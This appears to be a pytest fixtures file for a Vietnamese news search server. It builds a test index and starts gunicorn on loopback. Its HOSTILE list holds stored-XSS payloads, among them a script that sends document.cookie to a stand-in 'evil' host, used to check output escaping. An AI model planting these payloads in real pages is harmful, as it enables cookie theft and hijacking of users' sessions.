"""Shared fixtures of the reliability suite: real articles, a real index, a real server.

- `articles(n, body_chars)`: the first n articles of a shared corpus (VNTC news, else the
  Dân trí set), bodies cut at a word boundary after `body_chars` characters so that runs
  of a few thousand documents fit the suite's time budget on 2 cores.
- `base_index` (session): ~3,000 real articles plus the hostile documents of `HOSTILE`
  (stored-XSS payloads), built once with the real indexer; tests that write get a copy
  (`clone_index`), never the original.
- `Server`: gunicorn with the project's config (2 gthread workers, the spool applier in
  each) on a free loopback port, with an API token and a spool in tmp. It runs in its own
  session (process group) and `stop()` always ends the whole group, also on failure.
- `live_server` (session): one such server over a copy of the base index, for the tests
  that only need something to talk to (pathological queries, XSS, auth).
"""
from __future__ import annotations

import contextlib
import functools
import gzip
import http.client
import json
import lzma
import select
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from itertools import islice
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

ROOT = Path(__file__).resolve().parents[2]
SHARED = Path(__file__).resolve().parents[3] / "shared" / "data"
CORPORA = (SHARED / "vntc-news" / "corpus.jsonl.xz", SHARED / "unc-dantri-news" / "corpus.jsonl.gz")
PYTHON = sys.executable
GUNICORN_CONF = ROOT / "config" / "gunicorn.conf.py"
TOKEN = "rel-test-tôken-9f2c"  # non-ASCII on purpose: the header carries its UTF-8 bytes
AUTH = {"Authorization": "Bearer " + TOKEN.encode("utf-8").decode("latin-1")}
BASE_DOCS = int(os.environ.get("VNSEARCH_TEST_BASE_DOCS", "3000"))  # smaller for quick local runs
BASE_BODY_CHARS = 600
XSS_WORD = "xsskiemtra"  # in every hostile document, so one query finds them all

# Stored-XSS payloads: markup in every text field, hostile URLs, entity-encoded markup
# (the normalizer decodes entities, so it must not come back as live markup either).
HOSTILE: list[dict[str, Any]] = [
    {"id": "xss-script", "title": f"<script>alert('t')</script> Tin nóng Hà Nội {XSS_WORD}",
     "body": (f"Thành phố {XSS_WORD} <script>fetch('//evil/'+document.cookie)</script> hôm nay "
              "<img src=x onerror=alert(1)> mưa lớn <a href=\"javascript:alert(1)\">bấm</a> "
              "<iframe srcdoc=\"<script>alert(2)</script>\"></iframe> kết thúc."),
     "date": "2015-03-01", "category": "<b onmouseover=alert(1)>Thời sự</b>",
     "url": "javascript:alert(document.domain)", "source": "<script>s</script>"},
    {"id": "xss-attr", "title": f"\"><svg onload=alert(1)> {XSS_WORD} giá vàng",
     "body": (f"Giá vàng {XSS_WORD} &lt;script&gt;alert(3)&lt;/script&gt; tăng "
              "&#60;img src=x onerror=alert(4)&#62; ' onfocus='alert(5)' autofocus x='"),
     "date": "2015-03-02", "category": "Kinh tế\" onclick=\"alert(1)",
     "url": "  JaVaScRiPt:alert(1)"},
    {"id": "xss-<img src=x onerror=alert(6)>", "title": f"Mã độc trong id {XSS_WORD}",
     "body": f"Nội dung {XSS_WORD} <mark>giả</mark> </mark><script>alert(7)</script>",
     "date": "2015-03-03", "category": "Công nghệ", "url": "data:text/html,<script>alert(8)</script>"},
    {"id": "xss-url-tricks", "title": f"Đường dẫn lạ {XSS_WORD}",
     "body": f"Bài {XSS_WORD} có đường dẫn lạ <style>body{{display:none}}</style> cuối bài.",
     "date": "2015-03-04", "category": "Công nghệ", "url": "java\tscript:alert(9)"},
    {"id": "xss-proto-relative", "title": f"Liên kết ngoài {XSS_WORD} <form action=//evil>",
     "body": f"Bài {XSS_WORD} <object data=javascript:alert(10)></object> <base href=//evil/>",
     "date": "2015-03-05", "category": "Công nghệ", "url": "//evil.example/x"},
]


# -- data --------------------------------------------------------------------------------
def corpus_path() -> Path | None:
    return next((p for p in CORPORA if p.exists()), None)


requires_corpus = pytest.mark.skipif(corpus_path() is None, reason="shared corpus absent")


def _open(path: Path):
    opener = {".xz": lzma.open, ".gz": gzip.open}.get(path.suffix, open)
    return opener(path, "rt", encoding="utf-8")


@functools.lru_cache(maxsize=4)
def _raw_articles(n: int) -> tuple[str, ...]:
    path = corpus_path()
    if path is None:
        pytest.skip("shared corpus absent")
    with _open(path) as f:
        return tuple(islice(f, n))


def articles(n: int, body_chars: int = BASE_BODY_CHARS) -> list[dict[str, Any]]:
    """The first n articles of the corpus as JSONL records, bodies cut after body_chars."""
    out = []
    for line in _raw_articles(n):
        rec = json.loads(line)
        body = rec.get("body") or ""
        if len(body) > body_chars:
            cut = body.rfind(" ", 0, body_chars)
            body = body[:cut if cut > body_chars // 2 else body_chars]
        rec["body"] = body
        out.append(rec)
    return out


def write_jsonl(path: Path, records: list[dict[str, Any]]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        for rec in records:
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return path


def clone_index(src: Path, dst_dir: Path) -> Path:
    """Copy an index (its symlink and generations directory) into dst_dir; the new index path."""
    dst_dir.mkdir(parents=True, exist_ok=True)
    gens = src.with_name(src.name + ".generations")
    shutil.copytree(gens, dst_dir / "index.generations", symlinks=True)
    target = Path(os.readlink(src))
    os.symlink(Path("index.generations") / target.name, dst_dir / "index")
    return dst_dir / "index"


def index_ids(index_path: Path) -> list[str]:
    """Every stored id in the live index (duplicates kept, so callers can detect them)."""
    from indexer.store import open_index

    ix = open_index(index_path)
    try:
        with ix.searcher() as s:
            return [fields["id"] for fields in s.all_stored_fields()]
    finally:
        ix.close()


@dataclass
class BaseIndex:
    path: Path
    jsonl: Path
    records: list[dict[str, Any]]

    @property
    def ids(self) -> list[str]:
        return [r["id"] for r in self.records]


@pytest.fixture(scope="session")
def base_index(tmp_path_factory) -> BaseIndex:
    from indexer.build import BuildOptions, build

    records = articles(BASE_DOCS) + HOSTILE
    root = tmp_path_factory.mktemp("base")
    jsonl = write_jsonl(root / "corpus.jsonl", records)
    stats = build([jsonl], root / "index", BuildOptions(batch_size=500, workers=2, progress="quiet"))
    assert stats.rejected == 0, stats.rejects
    return BaseIndex(root / "index", jsonl, records)


# -- HTTP ----------------------------------------------------------------------------------
def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@dataclass
class Resp:
    status: int
    headers: dict[str, str]
    data: bytes
    seconds: float

    def json(self) -> Any:
        return json.loads(self.data)

    @property
    def text(self) -> str:
        return self.data.decode("utf-8", "replace")


def request(port: int, method: str, target: str, body: bytes | str | None = None,
            headers: dict[str, str] | None = None, timeout: float = 30.0,
            conn: http.client.HTTPConnection | None = None) -> Resp:
    """One request; `target` is sent as given (already percent-encoded)."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    own = conn is None
    conn = conn or http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    started = time.monotonic()
    try:
        conn.request(method, target, body=body, headers=headers or {})
        r = conn.getresponse()
        data = r.read()
        return Resp(r.status, {k.lower(): v for k, v in r.getheaders()}, data,
                    time.monotonic() - started)
    finally:
        if own:
            conn.close()


def raw_request(port: int, raw: bytes, timeout: float = 10.0) -> tuple[int | None, bytes, float]:
    """Send raw bytes (request line and all); (status or None, body, seconds). The response
    is read by its own framing (not until the server closes), so keep-alive costs nothing."""
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        view = memoryview(raw)
        while view:  # in pieces, stopping as soon as the server answers (like a real client)
            if select.select([s], [], [], 0)[0]:
                break
            try:
                view = view[s.send(view[:65536]):]
            except (BrokenPipeError, ConnectionResetError):
                break  # the server answered (and closed) before reading everything
        r = http.client.HTTPResponse(s)
        try:
            r.begin()
            data = r.read()
        except (http.client.HTTPException, ConnectionError, socket.timeout):
            return None, b"", time.monotonic() - started
        return r.status, data, time.monotonic() - started


def wait_until(predicate: Callable[[], Any], timeout: float, interval: float = 0.1,
               what: str = "condition") -> Any:
    deadline = time.monotonic() + timeout
    while True:
        try:
            value = predicate()
        except Exception:  # noqa: BLE001 - polled again until the deadline
            value = None
        if value:
            return value
        if time.monotonic() >= deadline:
            raise AssertionError(f"timed out after {timeout:.0f}s waiting for {what}")
        time.sleep(interval)


def listening_addresses(port: int) -> set[str]:
    """Local addresses with a socket in LISTEN state on `port` (IPv4 and IPv6)."""
    found: set[str] = set()
    for name, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        try:
            lines = Path(name).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            local, state = parts[1], parts[3]
            addr, _, hexport = local.partition(":")
            if state != "0A" or int(hexport, 16) != port:
                continue
            if width == 8:
                found.add(socket.inet_ntop(socket.AF_INET, bytes.fromhex(addr)[::-1]))
            else:
                raw = b"".join(bytes.fromhex(addr[i:i + 8])[::-1] for i in range(0, 32, 8))
                found.add(socket.inet_ntop(socket.AF_INET6, raw))
    return found


def child_env(**extra: str) -> dict[str, str]:
    """The environment for our subprocesses: no inherited VNSEARCH_* settings."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("VNSEARCH_")}
    env["PYTHONPATH"] = str(ROOT) + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    env.update(extra)
    return env


# -- the server ---------------------------------------------------------------------------
class Server:
    """gunicorn + the project's config on 127.0.0.1:<free port>, in its own process group."""

    def __init__(self, index: Path, spool: Path, log: Path, *, token: str = TOKEN,
                 workers: int = 2, env: dict[str, str] | None = None) -> None:
        self.index, self.spool, self.log_path = index, spool, log
        self.token, self.workers, self.extra_env = token, workers, env or {}
        self.proc: subprocess.Popen | None = None
        self.port = 0

    def start(self, timeout: float = 90.0) -> "Server":
        for attempt in range(3):  # a free port can be taken between probe and bind
            self.port = free_port()
            env = child_env(
                VNSEARCH_INDEX_PATH=str(self.index), VNSEARCH_INDEX_SPOOL=str(self.spool),
                VNSEARCH_API_TOKEN=self.token, VNSEARCH_SERVER_PORT=str(self.port),
                VNSEARCH_WORKERS=str(self.workers), VNSEARCH_LOGLEVEL="warning",
                **self.extra_env)
            log = open(self.log_path, "ab")
            self.proc = subprocess.Popen(
                [PYTHON, "-m", "gunicorn", "-c", str(GUNICORN_CONF), "search.api.wsgi:application"],
                cwd=ROOT, env=env, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
                start_new_session=True)
            log.close()
            try:
                wait_until(lambda: self.proc.poll() is not None or
                           self.get("/health", timeout=5).status in (200, 503),
                           timeout, interval=0.2, what="the server to answer /health")
            except AssertionError:
                self.stop()
                raise AssertionError(f"server did not start; log:\n{self.log_tail()}") from None
            if self.proc.poll() is None:
                self._warm_up()
                return self
            if attempt == 2:
                raise AssertionError(f"server exited with {self.proc.returncode}; log:\n{self.log_tail()}")
        return self

    def _warm_up(self) -> None:
        """Open the engine (analysis models, readers) in every worker before measuring."""
        import concurrent.futures

        with concurrent.futures.ThreadPoolExecutor(8) as pool:
            list(pool.map(lambda _: self.get("/search?q=h%C3%A0+n%E1%BB%99i", timeout=60), range(16)))

    def stop(self) -> None:
        proc = self.proc
        if proc is None:
            return
        if proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(15)
            except subprocess.TimeoutExpired:
                pass
        # Whatever is left of the group (workers mid-restart, a stuck worker): SIGKILL.
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(proc.pid, signal.SIGKILL)
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(10)
        self.proc = None

    def __enter__(self) -> "Server":
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def pid(self) -> int:
        assert self.proc is not None
        return self.proc.pid

    def worker_pids(self) -> list[int]:
        try:
            text = Path(f"/proc/{self.pid}/task/{self.pid}/children").read_text()
        except OSError:
            return []
        return [int(p) for p in text.split()]

    def log_tail(self, chars: int = 6000) -> str:
        try:
            return self.log_path.read_text("utf-8", "replace")[-chars:]
        except OSError:
            return ""

    def get(self, target: str, **kw: Any) -> Resp:
        return request(self.port, "GET", target, **kw)

    def call(self, method: str, target: str, body: Any = None, headers: dict[str, str] | None = None,
             **kw: Any) -> Resp:
        if body is not None and not isinstance(body, (bytes, str)):
            body = json.dumps(body, ensure_ascii=False)
            headers = {"Content-Type": "application/json", **(headers or {})}
        return request(self.port, method, target, body=body, headers=headers, **kw)

    def wait_drained(self, timeout: float = 60.0) -> None:
        """Until the spool has no pending write (every accepted write applied or failed)."""
        pending = self.spool / "pending"
        wait_until(lambda: not any(pending.glob("*.json")), timeout, 0.1, "the spool to drain")


@contextlib.contextmanager
def running_server(index: Path, tmp: Path, **kw: Any) -> Iterator[Server]:
    server = Server(index, tmp / "spool", tmp / "gunicorn.log", **kw)
    try:
        server.start()
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="session")
def live_server(base_index: BaseIndex, tmp_path_factory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("live")
    with running_server(clone_index(base_index.path, tmp), tmp) as server:
        yield server
